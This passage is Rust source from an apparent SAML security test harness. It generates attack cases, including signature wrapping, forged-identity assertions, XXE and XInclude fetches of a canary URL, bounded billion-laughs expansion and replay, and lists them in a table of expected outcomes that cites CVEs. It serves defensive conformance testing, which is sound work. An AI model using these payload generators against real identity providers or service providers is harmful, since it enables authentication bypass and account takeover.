    let mut prolog = String::from("<!DOCTYPE samlp:Response [<!ENTITY l0 \"lol\">");
    for level in 1..=4 {
        prolog.push_str(&format!("<!ENTITY l{level} \""));
        for _ in 0..10 {
            prolog.push_str(&format!("&l{};", level - 1));
        }
        prolog.push_str("\">");
    }
    prolog.push_str("]>");
    let xml = valid_with_object(ctx, "&l4;")?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn xinclude(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = escape_attr(&ctx.canary("xinclude"));
    let xml = valid_with_object(
        ctx,
        &format!(
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{url}\" \
             parse=\"text\"></xi:include>"
        ),
    )?;
    Ok(post(ctx, &xml, false))
}

fn schema_location(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = escape_attr(&ctx.canary("schema-location"));
    let r = response_xml(&ctx.spec, &signed_assertion(ctx)?);
    // Added before signing, in canonical order: the declaration after `xmlns:samlp`, the
    // qualified attribute after the unqualified ones.
    let decl = format!("xmlns:samlp=\"{SAMLP}\"");
    let r = splice::replace_first(&r, &decl, &format!("{decl} xmlns:xsi=\"{XSI}\""))?;
    let root = splice::root(&r)?;
    let r = splice::insert(
        &r,
        root.inner_start - 1,
        &format!(" xsi:schemaLocation=\"{SAMLP} {url}\""),
    );
    let xml = sign::sign_response(&r, &idp_opts(ctx))?;
    Ok(post(ctx, &xml, false))
}

fn xml_stylesheet(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = escape_attr(&ctx.canary("xml-stylesheet"));
    let prolog = format!("<?xml-stylesheet type=\"text/xsl\" href=\"{url}\"?>");
    let xml = both_signed(&ctx.spec, &idp_opts(ctx))?;
    Ok(post_doc(ctx, with_prolog(&prolog, &xml), false))
}

fn oversized(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = valid_with_object(ctx, &"A".repeat(2 << 20))?;
    Ok(post(ctx, &xml, false))
}

// ---------------------------------------------------------------------------------------------
// F. Protocol checks.

/// The valid response with `edit` applied to the spec.
fn spec_variant(ctx: &CaseContext<'_>, edit: fn(&mut ResponseSpec)) -> Result<BuiltCase> {
    let mut spec = ctx.spec.clone();
    edit(&mut spec);
    Ok(post(ctx, &both_signed(&spec, &idp_opts(ctx))?, false))
}

/// The valid response with `edit` applied to the unsigned assertion bytes before signing.
fn assertion_variant(ctx: &CaseContext<'_>, edit: fn(&str) -> Result<String>) -> Result<BuiltCase> {
    let a = edit(&assertion_xml(&ctx.spec))?;
    Ok(post(
        ctx,
        &both_signed_from(&ctx.spec, &a, &idp_opts(ctx))?,
        false,
    ))
}

/// The valid response with `edit` applied to the unsigned Response bytes before signing it
/// (the assertion inside is already signed).
fn response_variant(ctx: &CaseContext<'_>, edit: fn(&str) -> Result<String>) -> Result<BuiltCase> {
    let r = edit(&response_xml(&ctx.spec, &signed_assertion(ctx)?))?;
    Ok(post(ctx, &sign::sign_response(&r, &idp_opts(ctx))?, false))
}

const WRONG_URL: &str = "https://wrong.idgate.invalid/acs";
const WRONG_ENTITY: &str = "https://wrong.idgate.invalid/";

fn root_attr(xml: &str, name: &str, value: Option<&str>) -> Result<String> {
    splice::set_attr(xml, &splice::root(xml)?, name, value)
}

fn status_responder(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| {
        s.status_code = "urn:oasis:names:tc:SAML:2.0:status:Responder".into()
    })
}

fn status_missing(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    response_variant(ctx, |r| splice::remove_first(r, "samlp:Status"))
}

fn version_not_2(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let a = root_attr(&assertion_xml(&ctx.spec), "Version", Some("1.1"))?;
    let signed = sign::sign_assertion(&a, &idp_opts(ctx))?;
    let r = root_attr(&response_xml(&ctx.spec, &signed), "Version", Some("1.1"))?;
    Ok(post(ctx, &sign::sign_response(&r, &idp_opts(ctx))?, false))
}

fn response_id_missing(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    // Without an ID the Response cannot be signed; the assertion still is.
    let r = response_xml(&ctx.spec, &signed_assertion(ctx)?);
    Ok(post(ctx, &root_attr(&r, "ID", None)?, false))
}

fn issue_instant_malformed(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    response_variant(ctx, |r| {
        root_attr(r, "IssueInstant", Some("not-a-dateTime"))
    })
}

fn destination_wrong(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.destination = Some(WRONG_URL.into()))
}

fn destination_empty(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.destination = Some(String::new()))
}

fn destination_missing(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.destination = None)
}

fn recipient_wrong(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.recipient = WRONG_URL.into())
}

fn in_response_to_wrong(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| {
        s.in_response_to = Some("_idgate-never-requested".into())
    })
}

fn unsolicited(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.in_response_to = None)
}

fn audience_wrong(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.audience = WRONG_ENTITY.into())
}

fn audience_empty(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.audience = String::new())
}

fn audience_missing(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_variant(ctx, |a| splice::remove_first(a, "saml:AudienceRestriction"))
}

fn audience_second_wrong(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_variant(ctx, |a| {
        splice::insert_after(
            a,
            "saml:AudienceRestriction",
            &format!(
                "<saml:AudienceRestriction><saml:Audience>{WRONG_ENTITY}</saml:Audience>\
                 </saml:AudienceRestriction>"
            ),
        )
    })
}

/// Assertion and Response with their own issuers (`None`: no Issuer element).
fn issuers(
    ctx: &CaseContext<'_>,
    assertion: Option<&str>,
    response: Option<&str>,
) -> Result<BuiltCase> {
    let opts = idp_opts(ctx);
    let mut a_spec = ctx.spec.clone();
    a_spec.issuer = assertion.unwrap_or("").into();
    let mut a = assertion_xml(&a_spec);
    if assertion.is_none() {
        a = splice::remove_first(&a, "saml:Issuer")?;
    }
    let a = sign::sign_assertion(&a, &opts)?;
    let mut r_spec = ctx.spec.clone();
    r_spec.issuer = response.unwrap_or("").into();
    let mut r = response_xml(&r_spec, &a);
    if response.is_none() {
        r = splice::remove_first(&r, "saml:Issuer")?;
    }
    Ok(post(ctx, &sign::sign_response(&r, &opts)?, false))
}

fn assertion_issuer_wrong(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    issuers(ctx, Some(WRONG_ENTITY), Some(&ctx.spec.issuer))
}

fn response_issuer_wrong(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    issuers(ctx, Some(&ctx.spec.issuer), Some(WRONG_ENTITY))
}

fn assertion_issuer_missing(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    issuers(ctx, None, Some(&ctx.spec.issuer))
}

fn response_issuer_missing(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    issuers(ctx, Some(&ctx.spec.issuer), None)
}

/// Issued at `start` with five minutes of validity, as from an IdP whose clock is off.
fn issued_at(ctx: &CaseContext<'_>, start: OffsetDateTime) -> Result<BuiltCase> {
    let mut spec = ctx.spec.clone();
    spec.shift_times(start - spec.issue_instant);
    spec.not_before = start;
    Ok(post(ctx, &both_signed(&spec, &idp_opts(ctx))?, false))
}

fn not_yet_valid_inside_skew(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    issued_at(ctx, ctx.now + ctx.skew - ctx.margin())
}

fn not_yet_valid_outside_skew(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    issued_at(ctx, ctx.now + ctx.skew + ctx.margin())
}

/// A response whose Conditions (or, with `confirmation`, SubjectConfirmationData) ended at
/// `end`; the other limit stays five minutes ahead.
fn ended_at(ctx: &CaseContext<'_>, end: OffsetDateTime, confirmation: bool) -> Result<BuiltCase> {
    let mut spec = ctx.spec.clone();
    spec.issue_instant = end - Duration::minutes(2);
    spec.not_before = spec.issue_instant;
    let later = ctx.now + Duration::minutes(5);
    if confirmation {
        spec.confirmation_not_on_or_after = end;
        spec.not_on_or_after = later;
    } else {
        spec.not_on_or_after = end;
        spec.confirmation_not_on_or_after = later;
    }
    Ok(post(ctx, &both_signed(&spec, &idp_opts(ctx))?, false))
}

fn expired_inside_skew(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    ended_at(ctx, ctx.now - ctx.skew + ctx.margin(), false)
}

fn expired_outside_skew(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    ended_at(ctx, ctx.now - ctx.skew - ctx.margin(), false)
}

fn confirmation_expired_inside_skew(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    ended_at(ctx, ctx.now - ctx.skew + ctx.margin(), true)
}

fn confirmation_expired_outside_skew(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    ended_at(ctx, ctx.now - ctx.skew - ctx.margin(), true)
}

fn not_bearer(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_variant(ctx, |a| {
        splice::replace_first(
            a,
            super::response::CM_BEARER,
            "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches",
        )
    })
}

fn no_authn_statement(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_variant(ctx, |a| splice::remove_first(a, "saml:AuthnStatement"))
}

fn nameid_empty(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_variant(ctx, |a| splice::set_inner(a, "saml:NameID", ""))
}

fn nameid_missing(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    assertion_variant(ctx, |a| splice::remove_first(a, "saml:NameID"))
}

fn duplicate_attribute(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let name = ctx
        .spec
        .attributes
        .first()
        .map(|a| a.name.clone())
        .unwrap_or_else(|| "email".into());
    let mut w = Canonical::inside(&[("saml", SAML)]);
    w.start(
        "saml:Attribute",
        &[("Name", &name), ("NameFormat", ATTRNAME_BASIC)],
    );
    w.leaf("saml:AttributeValue", &[], &ctx.forged_name_id);
    w.end();
    let extra = w.finish();
    let a = splice::insert_after(&assertion_xml(&ctx.spec), "saml:Attribute", &extra)?;
    Ok(post(
        ctx,
        &both_signed_from(&ctx.spec, &a, &idp_opts(ctx))?,
        true,
    ))
}

fn assertion_for_other_sp(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| {
        s.audience = "https://other-sp.idgate.invalid/".into();
        s.recipient = "https://other-sp.idgate.invalid/acs".into();
        s.destination = Some(s.recipient.clone());
    })
}

// ---------------------------------------------------------------------------------------------
// G. Replay and binding.

fn replay_same_response(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut built = valid(ctx)?;
    built.posts.push(built.posts[0].clone());
    Ok(built)
}

fn replay_assertion_new_response(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let opts = idp_opts(ctx);
    let assertion = signed_assertion(ctx)?;
    let first = sign::sign_response(&response_xml(&ctx.spec, &assertion), &opts)?;
    let mut wrapper = ctx.spec.clone();
    wrapper.response_id = new_id();
    wrapper.issue_instant += Duration::seconds(1);
    let second = document(&response_xml(&wrapper, &assertion));
    Ok(BuiltCase {
        posts: vec![b64(&document(&first)), b64(&second)],
        ..post_doc(ctx, second, false)
    })
}

fn duplicate_param(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let forged = ctx.forged();
    let fake = document(&response_xml(&forged, &assertion_xml(&forged)));
    Ok(BuiltCase {
        second_value: Some(b64(&fake)),
        attacker_user: Some(ctx.forged_name_id.clone()),
        ..valid(ctx)?
    })
}

/// The valid document, padded with trailing newlines until its base64 has padding and uses
/// `+` or `/`, so the no-padding and URL-safe variants really differ from the standard one.
fn valid_for_binding(ctx: &CaseContext<'_>) -> Result<String> {
    let mut xml = document(&both_signed(&ctx.spec, &idp_opts(ctx))?);
    for _ in 0..64 {
        let encoded = b64(&xml);
        if encoded.ends_with('=') && encoded.contains(['+', '/']) {
            return Ok(xml);
        }
        xml.push('\n');
    }
    Err(SamlError::Splice(
        "no base64 form with padding and +/".into(),
    ))
}

fn base64_whitespace(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = valid_for_binding(ctx)?;
    let encoded = b64(&xml);
    let lines: Vec<&str> = encoded
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap_or_default())
        .collect();
    Ok(BuiltCase {
        posts: vec![lines.join("\r\n")],
        ..post_doc(ctx, xml, false)
    })
}

fn base64_url_safe(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = valid_for_binding(ctx)?;
    Ok(BuiltCase {
        posts: vec![URL_SAFE.encode(&xml)],
        ..post_doc(ctx, xml, false)
    })
}

fn base64_no_padding(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let xml = valid_for_binding(ctx)?;
    Ok(BuiltCase {
        posts: vec![STANDARD_NO_PAD.encode(&xml)],
        ..post_doc(ctx, xml, false)
    })
}

// ---------------------------------------------------------------------------------------------
// H. Must accept.

fn pretty_printed(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut spec = ctx.spec.clone();
    spec.pretty = true;
    let mut opts = idp_opts(ctx);
    opts.pretty = true;
    Ok(post(ctx, &both_signed(&spec, &opts)?, false))
}

fn ds_default_namespace(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.ds_default_namespace = true;
    valid_signed_with(ctx, &opts)
}

fn inclusive_namespaces(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut spec = ctx.spec.clone();
    spec.typed_values = true;
    let mut opts = idp_opts(ctx);
    opts.inclusive_prefixes = Some("xs".into());
    Ok(post(ctx, &both_signed(&spec, &opts)?, false))
}

fn rsa_sha512(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(
        ctx,
        &idp_opts(ctx).algorithms(SignatureAlg::RsaSha512, DigestAlg::Sha512),
    )
}

fn issue_instant_millis(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.millis = true)
}

fn attributes_no_nameformat(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| {
        for a in &mut s.attributes {
            a.name_format = None;
        }
    })
}

fn claims_short_names(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.attributes.retain(|a| !a.name.contains(':')))
}

fn claims_uri_names(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    spec_variant(ctx, |s| s.attributes.retain(|a| a.name.contains(':')))
}

// ---------------------------------------------------------------------------------------------
// The table.

const fn case(
    id: &'static str,
    group: Group,
    expect: Expect,
    title: &'static str,
    changes: &'static str,
    cite: &'static str,
    make: fn(&CaseContext<'_>) -> Result<BuiltCase>,
) -> Case {
    Case {
        id,
        group,
        title,
        changes,
        expect,
        cite,
        make,
    }
}

use Expect::{Accept, AcceptOriginalOnly, Reject, Report};
use Group::{A, B, C, D, E, F, G, H};

const SAML_RAIDER: &str =
    "SAML Raider (CompassSecurity); Somorovsky et al., On Breaking SAML (USENIX Security 2012)";
const CORE_542: &str = "SAML 2.0 core 5.4.2 (one Reference, to the ID of the signed element)";
const PROFILE_SUBJECT: &str = "SAML 2.0 profiles 4.1.4.2 and 4.1.4.3 (bearer subject confirmation)";
const DUO_2018: &str = "CVE-2017-11427, CVE-2017-11428, CVE-2017-11429, CVE-2017-11430, CVE-2018-0489, CVE-2018-7340 (Duo, 2018)";
const OWASP_XXE: &str = "OWASP XXE Prevention Cheat Sheet; SAML 2.0 security considerations";

#[rustfmt::skip]
static CASES: &[Case] = &[
    // A. Signature presence and coverage.
    case("saml.valid", A, Accept, "Valid response",
        "Response and Assertion signed with the IdP key, every condition right.",
        "SAML 2.0 profiles 4.1 (Web Browser SSO)", valid),
    case("saml.response-signed-only", A, Accept, "Only the Response signed",
        "The Response is signed, the Assertion inside it is not.",
        "SAML 2.0 profiles 4.1.3.5 with errata E26 (either signature protects the assertion)", response_signed_only),
    case("saml.assertion-signed-only", A, Accept, "Only the Assertion signed",
        "The Assertion is signed, the Response around it is not.",
        "SAML 2.0 profiles 4.1.3.5", assertion_signed_only),
    case("saml.unsigned", A, Reject, "No signature at all",
        "Every Signature removed; the subject is the forged identity.",
        "SAML Raider; CVE-2020-12676 (FusionAuth)", unsigned),
    case("saml.tampered", A, Reject, "Edited after signing",
        "NameID and e-mail claims changed to the forged identity after both signatures were made.",
        "XML-DSig core validation (reference digest)", tampered),
    case("saml.reference-elsewhere", A, Reject, "Reference names another element",
        "The Assertion's signature is valid but its Reference names the Response, not the Assertion it sits in.",
        CORE_542, reference_elsewhere),
    case("saml.reference-empty", A, Reject, "Empty Reference URI",
        "The Assertion's signature has Reference URI=\"\" (the whole document).",
        CORE_542, reference_empty),
    case("saml.signature-misplaced", A, Reject, "Signature outside the signed element",
        "The Assertion's signature moved out of the Assertion into the Response (still a valid detached signature).",
        "SAML 2.0 core 5.4.1 (enveloped signatures)", signature_misplaced),
    case("saml.foreign-signed-document", A, Reject, "IdP-signed metadata carried along",
        "The IdP's signed metadata sits in samlp:Extensions; Response and Assertion are unsigned and forged.",
        "CVE-2024-6800 (GitHub Enterprise Server)", foreign_signed_document),
    case("saml.broken-signature-value", A, Reject, "Corrupt SignatureValue",
        "One base64 character of the Assertion's SignatureValue changed.",
        "XML-DSig core validation; must not crash", broken_signature_value),
    case("saml.broken-empty-signature-value", A, Reject, "Empty SignatureValue",
        "The Assertion's SignatureValue is empty.",
        "XML-DSig core validation; must not crash", broken_empty_signature_value),
    case("saml.broken-no-signedinfo", A, Reject, "No SignedInfo",
        "The Assertion's signature has no SignedInfo.",
        "XML-DSig schema; must not crash", broken_no_signedinfo),
    case("saml.broken-empty-keyinfo", A, Reject, "Empty KeyInfo",
        "The Assertion's signature has an empty KeyInfo element (the schema requires a child).",
        "XML-DSig schema; must not crash", broken_empty_keyinfo),
    // B. Wrapping and selection.
    case("saml.xsw1", B, AcceptOriginalOnly, "XSW1: signed Response cloned into its Signature",
        "Response-signed message edited, it and its Assertion given new IDs; the original Response, unsigned, inside the Signature.",
        SAML_RAIDER, xsw1),
    case("saml.xsw2", B, AcceptOriginalOnly, "XSW2: signed Response cloned before its Signature",
        "As XSW1, the original Response placed just before the Signature.",
        SAML_RAIDER, xsw2),
    case("saml.xsw3", B, AcceptOriginalOnly, "XSW3: forged Assertion before the signed one",
        "A forged copy of the signed Assertion, new ID, no signature, placed before it.",
        SAML_RAIDER, xsw3),
    case("saml.xsw4", B, AcceptOriginalOnly, "XSW4: signed Assertion inside a forged one",
        "A forged Assertion with a new ID holds the signed original as its last child.",
        SAML_RAIDER, xsw4),
    case("saml.xsw5", B, AcceptOriginalOnly, "XSW5: edited in place, clean copy at the end",
        "The signed Assertion edited and renamed (signature kept); an unsigned copy with the original ID at the end of the Response.",
        SAML_RAIDER, xsw5),
    case("saml.xsw6", B, AcceptOriginalOnly, "XSW6: edited in place, clean copy in the Signature",
        "As XSW5, the clean copy inside the edited Assertion's Signature.",
        SAML_RAIDER, xsw6),
    case("saml.xsw7", B, AcceptOriginalOnly, "XSW7: forged copy in Extensions",
        "A namespace-less Extensions element before the signed Assertion holds a forged copy with the same ID.",
        SAML_RAIDER, xsw7),
    case("saml.xsw7-ns", B, AcceptOriginalOnly, "XSW7 with samlp:Extensions",
        "As XSW7 in a schema-valid samlp:Extensions after the Issuer, so schema validation does not drop it.",
        SAML_RAIDER, xsw7_ns),
    case("saml.xsw8", B, AcceptOriginalOnly, "XSW8: clean copy in an Object",
        "The signed Assertion edited with the same ID; an unsigned clean copy in a namespace-less Object inside its Signature.",
        SAML_RAIDER, xsw8),
    case("saml.xsw8-ns", B, AcceptOriginalOnly, "XSW8 with ds:Object",
        "As XSW8 with a schema-valid ds:Object.",
        SAML_RAIDER, xsw8_ns),
    case("saml.multiple-assertions-forged-first", B, AcceptOriginalOnly, "Two assertions, forged first",
        "A forged Assertion signed with the attacker's key, then the genuine signed one.",
        "CVE-2022-41912 (crewjam/saml)", multiple_assertions_forged_first),
    case("saml.multiple-assertions-forged-last", B, AcceptOriginalOnly, "Two assertions, forged last",
        "The genuine signed Assertion, then an unsigned forged one.",
        "CVE-2022-41912 (crewjam/saml)", multiple_assertions_forged_last),
    case("saml.duplicate-ids", B, AcceptOriginalOnly, "Duplicate assertion IDs",
        "After the signed Assertion, an unsigned forged one with the same ID.",
        "CVE-2025-23369 (GitHub Enterprise Server)", duplicate_ids),
    case("saml.id-decoy-lowercase", B, AcceptOriginalOnly, "Decoy with id= the signed ID",
        "A forged Assertion (own ID) carrying id=\"<signed ID>\" placed before the signed one.",
        "ID attribute confusion (XML-DSig ID resolution)", id_decoy_lowercase),
    case("saml.id-decoy-mixedcase", B, AcceptOriginalOnly, "Decoy with Id= the signed ID",
        "As the lowercase decoy, with Id=\"<signed ID>\".",
        "ID attribute confusion (XML-DSig ID resolution)", id_decoy_mixedcase),
    case("saml.assertion-in-advice", B, AcceptOriginalOnly, "Signed Assertion hidden in Advice",
        "A forged unsigned Assertion whose saml:Advice holds the genuine signed one.",
        "SAML 2.0 core 2.6.1 (Advice); signature wrapping", assertion_in_advice),
    case("saml.two-root-elements", B, Reject, "Two root elements",
        "A forged unsigned Response followed by the genuine signed one in the same document (not well-formed).",
        "CVE-2022-39299 (passport-saml)", two_root_elements),
    case("saml.extra-signedinfo", B, AcceptOriginalOnly, "Second SignedInfo",
        "The consumed Assertion is forged; its Signature has the genuine SignedInfo (pointing at a hidden original) and a second, unsigned SignedInfo with the forged digest.",
        "CVE-2025-29774 (xml-crypto)", extra_signedinfo),
    case("saml.comment-in-digestvalue", B, Reject, "Comment inside DigestValue",
        "The Assertion edited; DigestValue begins with a comment holding the edited Assertion's digest.",
        "CVE-2025-29775 (xml-crypto)", comment_in_digestvalue),
    case("saml.encrypted-assertion-plain", B, Reject, "Plain Assertion inside EncryptedAssertion",
        "An unsigned forged Assertion, not encrypted, inside saml:EncryptedAssertion; the Response is unsigned.",
        "saml-attacks.md B (EncryptedAssertion confusion)", encrypted_assertion_plain),
    // C. Keys and algorithms.
    case("saml.attacker-key", C, Reject, "Signed with the attacker's key",
        "Forged identity, both signatures by the attacker's key with its certificate in KeyInfo.",
        "CVE-2015-5372, CVE-2021-21239", attacker_key),
    case("saml.cloned-cert", C, Reject, "Cloned certificate",
        "Forged identity signed by a key whose certificate copies the IdP certificate's subject, serial and extensions.",
        "Certificate cloning (trust by name, not key)", cloned_cert),
    case("saml.hmac-with-idp-cert", C, Reject, "HMAC keyed with the IdP certificate",
        "Forged identity, SignatureMethod hmac-sha256 keyed with the IdP certificate's PEM text.",
        "Key confusion: a public certificate used as an HMAC secret", hmac_with_idp_cert),
    case("saml.hmac-truncated", C, Reject, "HMAC truncated to 8 bits",
        "Forged identity, hmac-sha1 with HMACOutputLength 8, keyed with the IdP certificate's PEM text.",
        "CVE-2009-0217", hmac_truncated),
    case("saml.alg-rsa-sha1", C, Report, "RSA-SHA1 signature",
        "Both signatures use rsa-sha1 (digests SHA-256).",
        "RFC 9231 / NIST SP 800-131A (SHA-1 signatures deprecated)", alg_rsa_sha1),
    case("saml.digest-sha1", C, Report, "SHA-1 digest",
        "Both references use the SHA-1 DigestMethod.",
        "RFC 9231 (SHA-1 digests deprecated)", digest_sha1),
    case("saml.digest-md5", C, Report, "MD5 digest",
        "Both references use the MD5 DigestMethod.",
        "RFC 6151, RFC 9231 (MD5 not for signatures)", digest_md5),
    case("saml.alg-unknown-uri", C, Reject, "Unknown SignatureMethod",
        "SignatureMethod Algorithm is an unknown URI (the value is RSA-SHA256).",
        "XML-DSig 4.4.2 (SignatureMethod)", alg_unknown_uri),
    case("saml.alg-mismatch", C, Reject, "Mismatched SignatureMethod",
        "SignatureMethod says rsa-sha512; the value was computed with rsa-sha256.",
        "XML-DSig 4.4.2 (SignatureMethod)", alg_mismatch),
    case("saml.transform-xslt", C, Reject, "XSLT transform",
        "An XSLT transform calling document() on the canary URL, between the standard transforms.",
        "SAML 2.0 core 5.4.4 (transforms); XML-DSig best practices 2.1.3", transform_xslt),
    case("saml.transform-xpath", C, Reject, "XPath transform leaving out the NameID",
        "The Assertion's signature has an XPath filter excluding NameID, so the NameID was edited to the forged identity.",
        "SAML 2.0 core 5.4.4 (transforms)", transform_xpath),
    case("saml.retrieval-method", C, Reject, "Remote key via RetrievalMethod",
        "Forged identity signed by the attacker; KeyInfo is a RetrievalMethod pointing at the canary URL.",
        "XML-DSig best practices 2.1.4 (RetrievalMethod); saml-attacks.md C", retrieval_method),
    case("saml.idp-cert-expired", C, Report, "Expired IdP certificate in KeyInfo",
        "Signed by the IdP key; KeyInfo carries a certificate for that key that expired a year ago.",
        "saml-attacks.md C (certificate validity is policy)", idp_cert_expired),
    case("saml.idp-cert-not-yet-valid", C, Report, "Not-yet-valid IdP certificate in KeyInfo",
        "Signed by the IdP key; KeyInfo carries a certificate for that key valid only from next year.",
        "saml-attacks.md C (certificate validity is policy)", idp_cert_not_yet_valid),
    // D. Parser differentials.
    case("saml.comment-in-nameid", D, AcceptOriginalOnly, "Comment splitting the NameID",
        "The IdP vouched for <victim>.evil.test; a comment after <victim> (outside canonical form) keeps the signatures valid.",
        DUO_2018, comment_in_nameid),
    case("saml.pi-in-nameid", D, AcceptOriginalOnly, "Processing instruction in the NameID",
        "NameID text <victim><?idgate?>.evil.test, signed as such.",
        DUO_2018, pi_in_nameid),
    case("saml.cdata-in-nameid", D, AcceptOriginalOnly, "CDATA section in the NameID",
        "NameID text <victim><![CDATA[.evil.test]]> (same canonical form as the signed text).",
        DUO_2018, cdata_in_nameid),
    case("saml.charref-in-nameid", D, AcceptOriginalOnly, "Character reference in the NameID",
        "NameID text <victim>&#46;evil.test (same canonical form as the signed text).",
        DUO_2018, charref_in_nameid),
    case("saml.doctype", D, Reject, "DOCTYPE present",
        "The valid response preceded by <!DOCTYPE samlp:Response>.",
        OWASP_XXE, doctype),
    case("saml.doctype-differential", D, Reject, "DOCTYPE hiding a forged Response",
        "An internal entity whose value is ]> and a forged Response, before the valid response.",
        "CVE-2025-25291, CVE-2025-25292 (ruby-saml parser differential)", doctype_differential),
    case("saml.signature-wrong-namespace", D, Reject, "Signature in the wrong namespace",
        "The Assertion edited; its Signature's ds prefix bound to http://www.w3.org/2000/09/xmldsig (no #).",
        "saml-attacks.md D (ds rebound)", signature_wrong_namespace),
    case("saml.reference-xpath-injection", D, Reject, "XPath in the Reference URI",
        "Reference URI #<ID>' or @ID='<ID>: selects the Assertion if pasted into an XPath, names nothing as an ID.",
        CORE_542, reference_xpath_injection),
    // E. XML parser attacks.
    case("saml.xxe-external-entity", E, Reject, "External entity",
        "DOCTYPE declares an external entity at the canary URL, used in a ds:Object.",
        OWASP_XXE, xxe_external_entity),
    case("saml.xxe-external-dtd", E, Reject, "External DTD",
        "DOCTYPE with a SYSTEM identifier at the canary URL.",
        OWASP_XXE, xxe_external_dtd),
    case("saml.xxe-parameter-entity", E, Reject, "External parameter entity",
        "DOCTYPE declares and uses an external parameter entity at the canary URL.",
        OWASP_XXE, xxe_parameter_entity),
    case("saml.billion-laughs", E, Reject, "Entity expansion (bounded)",
        "Nested internal entities expanding to 10^4 copies of lol (30 kB), used in a ds:Object.",
        "CWE-776; OWASP XXE Prevention Cheat Sheet", billion_laughs),
    case("saml.xinclude", E, AcceptOriginalOnly, "XInclude",
        "An xi:include of the canary URL in a ds:Object of the Response signature; signatures valid. Must not fetch.",
        "OWASP XXE Prevention Cheat Sheet (XInclude)", xinclude),
    case("saml.schema-location", E, AcceptOriginalOnly, "xsi:schemaLocation",
        "The signed Response names the canary URL as its schema location. Must not fetch.",
        "saml-attacks.md E", schema_location),
    case("saml.xml-stylesheet", E, AcceptOriginalOnly, "xml-stylesheet",
        "An xml-stylesheet processing instruction pointing at the canary URL before the valid response. Must not fetch.",
        "saml-attacks.md E", xml_stylesheet),
    case("saml.oversized", E, AcceptOriginalOnly, "Oversized message",
        "The valid response with 2 MiB of text in a ds:Object. Must answer fast.",
        "saml-attacks.md E", oversized),
    // F. Protocol checks.
    case("saml.status-responder", F, Reject, "Status Responder",
        "Top-level StatusCode Responder instead of Success.",
        "SAML 2.0 core 3.2.2.2", status_responder),
    case("saml.status-missing", F, Reject, "No Status",
        "The Response has no samlp:Status.",
        "SAML 2.0 core 3.2.2 (Status is required)", status_missing),
    case("saml.version-not-2", F, Reject, "Version 1.1",
        "Version=\"1.1\" on the Response and the Assertion.",
        "SAML 2.0 core 4.1.2", version_not_2),
    case("saml.response-id-missing", F, Reject, "Response without ID",
        "The Response has no ID attribute (so only the Assertion is signed).",
        "SAML 2.0 core 3.2.2 (ID is required)", response_id_missing),
    case("saml.issue-instant-malformed", F, Reject, "Malformed IssueInstant",
        "Response IssueInstant=\"not-a-dateTime\".",
        "SAML 2.0 core 1.3.3 (xs:dateTime in UTC)", issue_instant_malformed),
    case("saml.destination-wrong", F, Reject, "Wrong Destination",
        "Destination is another URL than the ACS.",
        "SAML 2.0 bindings 3.5.5.2", destination_wrong),
    case("saml.destination-empty", F, Reject, "Empty Destination",
        "Destination=\"\".",
        "SAML 2.0 bindings 3.5.5.2", destination_empty),
    case("saml.destination-missing", F, Reject, "No Destination on a signed Response",
        "The signed Response has no Destination.",
        "SAML 2.0 bindings 3.5.5.2 (required when signed)", destination_missing),
